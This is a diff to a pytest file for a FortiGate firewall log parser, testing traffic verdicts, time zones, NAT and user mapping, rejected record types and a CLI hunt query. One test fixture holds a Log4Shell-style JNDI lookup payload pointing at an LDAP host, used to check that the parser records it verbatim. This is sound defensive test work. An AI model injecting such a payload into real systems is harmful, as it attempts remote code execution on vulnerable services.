@@ -1,14 +1,27 @@
-"""FortiGate key=value parser: traffic, web filter and DNS logs, key order, rejects, detection."""
+"""FortiGate key=value parser: every record type read, verdicts, time zones, rejects, detection."""
 
 from __future__ import annotations
 
+import json
+from collections.abc import Callable
 from datetime import UTC, datetime
+from pathlib import Path
 
 import polars as pl
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from tests.boundary.parsers import golden_files
+from typer.testing import Result
 
-from bastion.boundary.parsers import PARSERS, ParseContext, ParseResult, detect_format, get_parser
+from bastion.boundary.parsers import (
+    PARSERS,
+    ParseContext,
+    ParseResult,
+    detect_format,
+    fortigate,
+    get_parser,
+)
 from bastion.core.events import EVENT_SCHEMA, LINE_COLUMN
 
 # FortiOS 7 traffic log, as (key, value as written) pairs.
@@ -80,6 +93,7 @@ DNS = (
 )
 
 FORTIGATE = get_parser("fortigate").parse
+Run = Callable[..., Result]
 
 
 def parse(lines: list[str]) -> ParseResult:
@@ -115,6 +129,7 @@ def test_forward_traffic_maps_every_field() -> None:
         "network.protocol": "https",
         "network.bytes": 2412,
         "rule.name": "LAN to WAN",
+        "source.nat.ip": "203.0.113.5",
         "event.original": TRAFFIC,
         LINE_COLUMN: 0,
     }
@@ -195,8 +210,8 @@ def test_malformed_lines_are_rejected_and_good_ones_still_parse() -> None:
     assert sorted(result.events.get_column(LINE_COLUMN).to_list()) == [0, 8]
     reasons = dict(result.rejects.iter_rows())
     assert reasons == {
-        1: "fortigate: type=event subtype=system is not supported "
-        "(read: traffic, utm webfilter, utm dns)",
+        1: "fortigate: type=event subtype=system records other than logins are not read "
+        "(action=(none) logdesc=(none))",
         2: "fortigate: no type= field; not a FortiGate key=value log",
         3: "fortigate: srcport=abc is not a number",
         4: "fortigate: eventtime=soon is not an epoch number",
@@ -228,3 +243,184 @@ def test_sample_is_detected_as_fortigate_only() -> None:
     sample = [TRAFFIC, WEBFILTER, DNS, LOCAL_DENY]
     assert [p.name for p in PARSERS.values() if p.sniff(sample)] == ["fortigate"]
     assert detect_format(sample).name == "fortigate"
+
+
+@pytest.mark.parametrize("log", golden_files.cases("fortigate"), ids=lambda p: p.stem)
+def test_golden_records_give_every_mapped_field(log: Path) -> None:
+    golden_files.check("fortigate", log, ParseContext(default_year=2025, timezone="Europe/London"))
+
+
+ADMIN_LOGIN_FAILED = (
+    '<185>date=2025-11-25 time=13:20:54 devname="FGT60F-HQ" logid="0100032002" type="event" '
+    'subtype="system" level="alert" vd="root" eventtime=1764076854 tz="+0000" '
+    'logdesc="Admin login failed" sn="0" user="${jndi:ldap://198.51.100.9:1389/a}" '
+    'ui="ssh(198.51.100.9)" method="ssh" action="login" status="failed" reason="name_invalid" '
+    'msg="Administrator ${jndi:ldap://198.51.100.9:1389/a} login failed from ssh(198.51.100.9)"'
+)
+APP_CTRL_BLOCK = (
+    '<190>date=2025-11-25 time=13:10:00 devname="FGT60F-HQ" eventtime=1764076200 tz="+0000" '
+    'logid="1059028704" type="utm" subtype="app-ctrl" eventtype="signature" level="warning" '
+    'vd="root" appid=16331 srcip=10.1.100.22 srcport=50400 dstip=185.220.101.4 dstport=9001 '
+    'proto=6 service="tcp/9001" policyid=12 action="block" appcat="Proxy" app="Tor" '
+    'apprisk="critical"'
+)
+VPN_EVENT = (
+    '<189>date=2025-11-25 time=13:25:00 devname="FGT60F-HQ" logid="0101037139" type="event" '
+    'subtype="vpn" level="notice" eventtime=1764077100 logdesc="IPsec phase 2 status change" '
+    'action="phase2-up" remip=198.51.100.200 status="success"'
+)
+
+
+def test_records_not_read_are_rejected_by_name_and_the_rest_of_the_file_is_read() -> None:
+    email = TRAFFIC.replace('type="traffic" subtype="forward"', 'type="utm" subtype="emailfilter"')
+    lines = [VPN_EVENT, TRAFFIC, email, APP_CTRL_BLOCK, ADMIN_LOGIN_FAILED, DNS]
+    result = parse(lines)
+    assert result.events.get_column(LINE_COLUMN).to_list() == [1, 3, 4, 5]
+    assert dict(result.rejects.iter_rows()) == {
+        0: "fortigate: type=event subtype=vpn records other than logins are not read "
+        "(action=phase2-up logdesc=IPsec phase 2 status change)",
+        2: "fortigate: type=utm subtype=emailfilter records are not read (read: traffic; "
+        "utm webfilter, dns, app-ctrl, ips, virus, anomaly; event logins)",
+    }
+    only_unread = parse([VPN_EVENT, email])
+    assert (only_unread.events.height, only_unread.rejects.height) == (0, 2)
+
+
+def test_application_control_block_is_read_with_application_and_risk() -> None:
+    got = row(APP_CTRL_BLOCK)
+    assert (got["event.dataset"], got["event.action"], got["event.type"]) == (
+        "fortigate.app-ctrl",
+        "block",
+        "denied",
+    )
+    assert (got["network.application"], got["network.application_risk"]) == ("tor", "critical")
+    assert (got["source.ip"], got["destination.port"]) == ("10.1.100.22", 9001)
+
+
+def test_failed_admin_login_is_an_authentication_failure_with_the_user_verbatim() -> None:
+    got = row(ADMIN_LOGIN_FAILED)
+    assert (got["event.category"], got["event.outcome"], got["event.action"]) == (
+        "authentication",
+        "failure",
+        "login",
+    )
+    assert got["user.name"] == "${jndi:ldap://198.51.100.9:1389/a}"
+    assert got["source.ip"] == "198.51.100.9"  # no srcip=: the address in ui="ssh(…)"
+    assert got["network.protocol"] == "ssh"
+    assert got["event.type"] is None  # an outcome, not a traffic verdict
+
+
+def _local(line: str, zone: str) -> datetime:
+    context = ParseContext(default_year=2025, timezone=zone)
+    result = FORTIGATE(pl.Series([line], dtype=pl.String), context)
+    assert result.rejects.height == 0, result.rejects.to_dicts()
+    stamp: datetime = result.events.item(0, "@timestamp")
+    return stamp
+
+
+def test_device_time_takes_the_tz_offset_then_the_source_zone_and_eventtime_first() -> None:
+    base = LOCAL_DENY.replace('tz="+0100" ', "")  # date=2025-11-25 time=14:01:02, no zone
+    assert _local(base, "UTC") == datetime(2025, 11, 25, 14, 1, 2, tzinfo=UTC)
+    assert _local(base, "America/Los_Angeles") == datetime(2025, 11, 25, 22, 1, 2, tzinfo=UTC)
+    summer = base.replace("date=2025-11-25", "date=2025-07-01")
+    assert _local(summer, "Europe/London") == datetime(2025, 7, 1, 13, 1, 2, tzinfo=UTC)
+    pacific = base.replace("time=14:01:02", 'time=14:01:02 tz="-0800"')
+    assert _local(pacific, "Europe/London") == datetime(2025, 11, 25, 22, 1, 2, tzinfo=UTC)
+    colon = base.replace("time=14:01:02", "time=14:01:02 tz=+05:30")
+    assert _local(colon, "UTC") == datetime(2025, 11, 25, 8, 31, 2, tzinfo=UTC)
+    with_epoch = pacific.replace("level=", "eventtime=1764079262 level=")
+    assert _local(with_epoch, "Asia/Tokyo") == datetime(2025, 11, 25, 14, 1, 2, tzinfo=UTC)
+
+
+def _verdict(action: str, extra: str = "") -> str | None:
+    line = TRAFFIC.replace('action="close"', f'action="{action}"{extra}')
+    verdict: str | None = row(line)["event.type"]
+    return verdict
+
+
+@pytest.mark.parametrize(("action", "expected"), sorted(fortigate.VERDICTS.items()))
+def test_every_fortigate_action_has_its_verdict(action: str, expected: str | None) -> None:
+    assert _verdict(action) == expected
+    assert _verdict(action.upper()) == expected
+
+
+def test_the_verdict_table_covers_the_words_the_issue_names() -> None:
+    named = {"accept", "close", "timeout", "server-rst", "client-rst", "deny", "dns", "ip-conn"}
+    assert named | {"blocked", "passthrough"} <= set(fortigate.VERDICTS)
+    assert _verdict("unheard-of") is None
+
+
+@pytest.mark.parametrize("action", ["close", "accept", "timeout", "client-rst"])
+def test_a_utm_block_makes_the_session_denied(action: str) -> None:
+    assert _verdict(action, ' utmaction="block"') == "denied"
+    assert _verdict(action, ' utmaction="reset"') == "denied"
+    assert _verdict(action, ' utmaction="allow"') == "allowed"
+
+
+def test_icmp_has_no_ports_even_when_the_line_logs_the_inner_packets() -> None:
+    icmp = TRAFFIC.replace("proto=6", "proto=1").replace('service="HTTPS"', 'service="PING"')
+    got = row(icmp)
+    assert (got["network.transport"], got["source.port"], got["destination.port"]) == (
+        "icmp",
+        None,
+        None,
+    )
+    icmp6 = row(icmp.replace("proto=1", "proto=58"))
+    assert (icmp6["network.transport"], icmp6["source.port"]) == ("ipv6-icmp", None)
+
+
+def test_nat_users_threat_and_application_fields_are_mapped() -> None:
+    line = TRAFFIC.replace(
+        'appcat="unscanned"',
+        'transport=61012 tranip=10.20.0.10 tranport=8443 unauthuser="bob" dstuser="svc-web" '
+        'app="HTTPS.BROWSER" apprisk="Medium" appcat="Web.Client"',
+    )
+    got = row(line)
+    assert (got["source.nat.ip"], got["source.nat.port"]) == ("203.0.113.5", 61012)
+    assert (got["destination.nat.ip"], got["destination.nat.port"]) == ("10.20.0.10", 8443)
+    assert (got["user.name"], got["destination.user.name"]) == ("bob", "svc-web")
+    assert (got["network.application"], got["network.application_risk"]) == (
+        "https.browser",
+        "medium",
+    )
+    assert got["rule.name"] == "LAN to WAN"
+    user_wins = row(line.replace('unauthuser="bob"', 'user="alice" unauthuser="bob"'))
+    assert user_wins["user.name"] == "alice"
+
+
+def test_a_name_in_an_address_key_is_not_an_address() -> None:
+    line = TRAFFIC.replace("srcip=10.1.100.11", "srcip=fw.example.org").replace(
+        "transip=203.0.113.5", "transip=N/A"
+    )
+    got = row(line)
+    assert (got["source.ip"], got["source.nat.ip"], got["destination.ip"]) == (
+        None,
+        None,
+        "93.184.216.34",
+    )
+
+
+def test_nat_and_user_reach_the_archive_and_hunts(bastion: Run, tmp_path: Path) -> None:
+    assert bastion("init").exit_code == 0
+    assert bastion("orgs", "add", "R0A", "Trust", "-n", "10.1.100.0/24").exit_code == 0
+    log = tmp_path / "fortigate.log"
+    nat_user = TRAFFIC.replace('appcat="unscanned"', 'transport=61012 user="alice"')
+    log.write_text(nat_user + "\n")
+    ingested = bastion("boundary", "ingest", str(log), "--format", "fortigate", "--json")
+    assert ingested.exit_code == 0, ingested.output
+    assert json.loads(ingested.stdout)[0]["events"] == 1
+    found = bastion(
+        "hunt",
+        'SELECT "source.nat.ip", "source.nat.port", "user.name", "source.ip" FROM events '
+        "WHERE \"user.name\" = 'alice'",
+        "--json",
+    )
+    assert found.exit_code == 0, found.output
+    assert json.loads(found.stdout) == [
+        {
+            "source.nat.ip": "203.0.113.5",
+            "source.nat.port": 61012,
+            "user.name": "alice",
+            "source.ip": "10.1.100.11",
+        }
+    ]
